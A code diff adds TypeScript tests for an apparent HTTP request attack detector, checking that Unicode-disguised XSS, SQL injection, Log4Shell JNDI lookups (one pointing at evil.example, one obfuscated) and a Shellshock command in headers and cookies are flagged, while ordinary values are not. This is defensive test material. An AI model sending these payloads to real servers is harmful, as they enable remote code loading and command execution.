@@ -227,3 +227,45 @@ describe('an operator of a database is one between whatever brackets its name st
     expect(found({ type: json, body: JSON.stringify({ user: { [name]: [1] } }) })).toBe('nosql');
   });
 });
+
+describe('bytes beyond ASCII in fields are read as UTF-8 as well', () => {
+  const latin = (sent: string): string => Buffer.from(sent).toString('latin1');
+  const found = operationWith({ parameters: [{ name: 'X-Note', in: 'header', schema: text }] });
+
+  test.each([
+    '\uff1cscript\uff1ef()\uff1c/script\uff1e',
+    '\uff04\uff5bjndi:ldap://x\uff5d',
+    '\u{1d422}\u{1d41d}\uff07 or 7=7--',
+  ])('%s', (attack) => {
+    for (let times = 0; times < 2; times += 1)
+      for (const name of ['User-Agent', 'X-Note']) expect(found({ headers: [name, latin(attack)] })).not.toBe('null');
+    expect(found({ cookie: `a=${latin(attack)}` })).not.toBe('null');
+    expect(found({ cookie: `a="${latin(attack)}"` })).not.toBe('null');
+  });
+
+  test.each(['Caf\u00e9 M\u00fcller', '\u5317\u4eac', '\u201cnote\u201d'])('and nothing is found in %s', (honest) => {
+    for (const sent of [honest, latin(honest)].filter((one) => /^[\0-\xff]*$/.test(one))) {
+      expect(found({ headers: ['User-Agent', sent] })).toBe('null');
+      expect(found({ cookie: `a=${sent}` })).toBe('null');
+    }
+  });
+});
+
+describe('a field of HTTP itself is looked at for what runs wherever it is written', () => {
+  const found = operationWith({});
+
+  test.each(['Accept', 'Accept-Language', 'Origin', 'If-None-Match', 'Sec-CH-UA', 'Authorization', 'Via'])(
+    '%s',
+    (name) => {
+      expect(found({ headers: [name, '${jndi:ldap://evil.example/a}'] })).toBe('lookup');
+      expect(found({ headers: [name, '${${lower:j}ndi:dns://x}'] })).toBe('lookup');
+      expect(found({ headers: [name, '() { :; }; /bin/id'] })).toBe('command');
+    },
+  );
+
+  test.each([
+    ['Accept', 'text/html, */*;q=0.8, application/json;profile="a{b}"'],
+    ['If-None-Match', 'W/"{0A1B2C3D-0000-4000-8000-123456789ABC},2"'],
+    ['Sec-CH-UA', '"Not A(Brand";v="99", "Chromium";v="140"'],
+  ])('and nothing is found in %s: %s', (name, value) => expect(found({ headers: [name, value] })).toBe('null'));
+});
